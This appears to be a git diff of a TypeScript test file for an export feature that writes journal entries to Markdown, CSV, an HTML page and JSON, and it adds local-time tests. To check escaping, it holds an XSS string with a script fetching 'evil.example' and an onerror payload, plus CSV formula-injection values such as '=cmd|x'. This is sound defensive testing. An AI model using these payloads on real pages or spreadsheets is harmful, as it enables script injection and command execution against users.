@@ -2,9 +2,11 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { parse as parseYaml } from 'yaml';
+import type { ExportRow } from './exported-row.ts';
 import { journalJson } from './journal-json.ts';
+import { localTimeOf } from './local-time.ts';
 import { markdownOf, markdownPath } from './markdown.ts';
-import type { ExportRow } from './rows.ts';
+import type { ExportFigures } from './rows.ts';
 import { spreadsheet } from './spreadsheet.ts';
 import { webPage } from './web-page.ts';
 
@@ -20,27 +22,24 @@ const row: ExportRow = {
   lng: 151.2093,
   address: null,
   connected_to: null,
-  same_here: [],
+  same_here: false,
   created_at: new Date('2026-03-03T08:00:00.000Z'),
   updated_at: new Date('2026-03-04T08:00:00.000Z'),
-  revision: 0,
   channel: 'web',
   operation_kind: null,
   parent_at: null,
   parent_zone: null,
   parent_text: null,
+  local: { date: '2026-03-02', time: '23:30:15' },
 };
 const attack = `</p></style></script><script>fetch('https://evil.example')</script><img src=x onerror="alert(1)">"'&--!>`;
 const figures = { anecdotes: 1, first: row.at, last: row.at, bytes: 1 };
 
-async function* pages(...rows: readonly ExportRow[]): AsyncGenerator<readonly ExportRow[]> {
-  yield rows;
-}
+const sheetOf = (...rows: readonly ExportRow[]) => spreadsheet.begin() + spreadsheet.rows(rows);
 
-async function textOf(pieces: AsyncIterable<string>): Promise<string> {
-  let text = '';
-  for await (const piece of pieces) text += piece;
-  return text;
+function pageOf(of: ExportFigures, ...rows: readonly ExportRow[]): string {
+  const page = webPage(of, row.at);
+  return page.begin() + page.rows(rows) + page.end();
 }
 
 describe('a Markdown file', () => {
@@ -96,7 +95,7 @@ describe('a Markdown file', () => {
 
 describe('the table', () => {
   test('begins with a byte order mark and a line of names, and its cells read back as they were', async () => {
-    const text = await textOf(spreadsheet(pages(row, { ...row, description: 'a "b",\nc;\td', tags: [] })));
+    const text = sheetOf(row, { ...row, description: 'a "b",\nc;\td', tags: [] });
     expect(text.startsWith('\uFEFFid,date,time,')).toBe(true);
     const [first, second] = parse(text, { bom: true, columns: true }) as Record<string, string>[];
     expect(first).toMatchObject({
@@ -114,7 +113,7 @@ describe('the table', () => {
   test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\n=cmd|x', '＝1', '|x', '%x'])(
     'takes %j for a text, not for something to compute',
     async (description) => {
-      const text = await textOf(spreadsheet(pages({ ...row, description, location: description })));
+      const text = sheetOf({ ...row, description, location: description });
       const [cells] = parse(text, { bom: true, columns: true }) as Record<string, string>[];
       expect(cells).toMatchObject({ text: `'${description}`, location: `'${description}` });
     },
@@ -125,7 +124,7 @@ describe('the page', () => {
   test('asks for nothing, and runs nothing but its own script, whatever the anecdotes say', async () => {
     const hostile = { ...row, description: attack, tags: [attack], location: attack };
     const child = { ...hostile, id: id.replace('ab', 'cd'), connected_to: id, parent_text: attack };
-    const html = await textOf(webPage(pages(hostile, child), figures, row.at));
+    const html = pageOf(figures, hostile, child);
     expect(html.match(/<script/g)).toHaveLength(1);
     expect(html.match(/<style/g)).toHaveLength(1);
     expect(html).not.toMatch(
@@ -136,8 +135,9 @@ describe('the page', () => {
   });
 
   test('has a heading for each month and says how much it holds', async () => {
-    const later = { ...row, id: id.replace('ab', 'cd'), at: new Date('2027-01-05T10:00:00Z') };
-    const html = await textOf(webPage(pages(row, later), { ...figures, anecdotes: 2, last: later.at }, row.at));
+    const at = new Date('2027-01-05T10:00:00Z');
+    const later = { ...row, id: id.replace('ab', 'cd'), at, local: { date: '2027-01-05', time: '11:00:00' } };
+    const html = pageOf({ ...figures, anecdotes: 2, last: at }, row, later);
     expect([...html.matchAll(/<h2>(.*?)<\/h2>/g)].map(([, heading]) => heading)).toEqual([
       'March 2026',
       'January 2027',
@@ -154,7 +154,37 @@ test('journal.json is JSON with one item a line, also where a list is empty or l
     position: '12',
     is_whole: true,
   } as const;
-  async function* none() {}
-  const text = await textOf(journalJson(head, { anecdotes: none(), trash: none(), history: undefined }));
-  expect(JSON.parse(text)).toEqual({ ...head, anecdotes: [], trash: [] });
+  const { begin, beginList, items, endList, end } = journalJson(head);
+  const lists = ['anecdotes', 'trash'].map((name) => beginList(name) + items([]) + endList());
+  expect(JSON.parse(begin() + lists.join('') + end())).toEqual({ ...head, anecdotes: [], trash: [] });
+  const text = begin() + beginList('anecdotes') + items(['1', '2']) + items(['3']) + endList() + end();
+  expect(JSON.parse(text).anecdotes).toEqual([1, 2, 3]);
+  expect(text).toContain('[\n1,\n2,\n3\n]');
+});
+
+describe('local time', () => {
+  test.each([
+    ['2026-03-29T00:59:59.999Z', 'Europe/Zurich', '2026-03-29 01:59:59'],
+    ['2026-03-29T01:00:00.000Z', 'Europe/Zurich', '2026-03-29 03:00:00'],
+    ['1850-06-01T11:25:52.000Z', 'Europe/Zurich', '1850-06-01 12:00:00'],
+    ['2026-10-04T15:30:00.000Z', 'Australia/Lord_Howe', '2026-10-05 02:30:00'],
+    ['2026-10-03T15:29:59.000Z', 'Australia/Lord_Howe', '2026-10-04 01:59:59'],
+    ['0001-01-01T00:00:00.000Z', 'America/St_Johns', '0000-12-31 20:29:08'],
+    ['9999-12-31T23:59:59.000Z', 'Asia/Kathmandu', '10000-01-01 05:44:59'],
+  ])('%s in %s is %s', (instant, zone, local) => {
+    const { date, time } = localTimeOf(new Date(instant), zone);
+    expect(`${date} ${time}`).toBe(local);
+  });
+
+  test('is what Intl says, at any instant in any zone', () => {
+    const zones = fc.constantFrom('UTC', 'Europe/Zurich', 'Africa/Casablanca', 'America/St_Johns', 'Pacific/Apia');
+    const from = { min: new Date('1800-01-01T00:00:00Z'), max: new Date('2200-01-01T00:00:00Z'), noInvalidDate: true };
+    fc.assert(
+      fc.property(fc.date(from), zones, (instant, timeZone) => {
+        const { date, time } = localTimeOf(instant, timeZone);
+        const wanted = new Intl.DateTimeFormat('sv', { timeZone, dateStyle: 'short', timeStyle: 'medium' });
+        expect(`${date} ${time}`).toBe(wanted.format(instant));
+      }),
+    );
+  });
 });
